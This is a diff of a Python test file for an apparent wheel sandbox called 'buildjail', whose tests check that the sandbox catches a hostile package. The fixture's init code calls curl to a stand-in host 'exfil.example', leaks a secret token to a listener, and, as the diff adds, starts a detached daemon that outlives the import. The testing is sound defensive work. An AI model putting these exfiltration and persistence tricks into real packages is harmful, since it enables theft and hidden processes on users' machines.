@@ -13,6 +13,7 @@ import contextlib
 import json
 import os
 import shlex
+import signal
 import subprocess
 import sys
 import zipfile
@@ -29,7 +30,7 @@ from buildjail.inspection import (
     provided_modules,
     suspicious_attempts,
 )
-from conftest import Identity, Listener, host_address
+from conftest import Identity, Listener, host_address, processes_with
 from wheels import rewrite_wheel, write_wheel
 
 HOSTILE_INIT = """
@@ -54,8 +55,12 @@ for argv in (["/bin/true", "spawned"], ["curl", "-s", "http://exfil.example/"]):
         subprocess.run(argv, timeout=5, check=False, capture_output=True)
     except OSError as error:
         found.append(f"{{argv[0]}} {{error}}")
+subprocess.Popen(["/bin/sleep", {marker!r}], start_new_session=True,  # a daemon left behind
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 raise RuntimeError(" | ".join(found))
 """
+MARKER = f"{4000 + os.getpid() % 1000}.4711"
+"""The hostile wheel's daemon sleeps this long: what the tests find it by on the host."""
 ENTRY_POINTS = b"[console_scripts]\nhostile-tool = hostile.cli:main\n"
 TOKEN = f"REAL-SECRET-{os.getpid()}-4711"
 
@@ -73,7 +78,7 @@ def listener() -> Iterator[Listener]:
 
 def hostile_wheel(directory: Path, listener: Listener) -> Path:
     """The hostile wheel, aimed at *listener*, with a console script."""
-    init = HOSTILE_INIT.format(host=listener.address, port=listener.port)
+    init = HOSTILE_INIT.format(host=listener.address, port=listener.port, marker=MARKER)
     return write_wheel(directory, "hostile", files={
         "hostile/__init__.py": init.encode(),
         "hostile/cli.py": b"def main():\n    print('usage: hostile-tool')\n",
@@ -131,6 +136,8 @@ def test_a_hostile_wheel_is_caught_and_the_host_sees_nothing(
     ran = [shlex.split(item["argv"]) for item in _kinds(report, "exec")]
     assert any(words[0] == "curl" for words in ran), ran
     assert any(words[0] == "/bin/true" for words in ran), ran
+    assert {"kind": "outlived", "argv": f"/bin/sleep {MARKER}"} in report["findings"]
+    assert processes_with(MARKER) == []  # and the sandbox ended it
     steps = {(step["kind"], step["name"]): step for step in report["steps"]}
     detail = steps[("import", "hostile")]["detail"]
     assert "netrc machine pypi.org" in detail and "buildjail-decoy-" in detail  # the decoy
@@ -155,10 +162,16 @@ def test_the_control_without_a_sandbox_is_seen(tmp_path: Path, listener: Listene
                               cwd=site,
                               env={**os.environ, "HOME": str(real_home)}, capture_output=True,
                               text=True, timeout=60, check=False)
-    assert proc.returncode == 1 and "connected" in proc.stderr, proc.stderr
-    assert TOKEN in proc.stderr
-    assert listener.connections == 1
-    assert opened
+    try:
+        assert proc.returncode == 1 and "connected" in proc.stderr, proc.stderr
+        assert TOKEN in proc.stderr
+        assert listener.connections == 1
+        assert opened
+        assert len(processes_with(MARKER)) == 1  # its daemon outlives the import
+    finally:
+        for pid in processes_with(MARKER):
+            os.kill(pid, signal.SIGKILL)
+
 
 
 def test_the_table_names_what_was_tried(shared_dir: Path, listener: Listener) -> None:
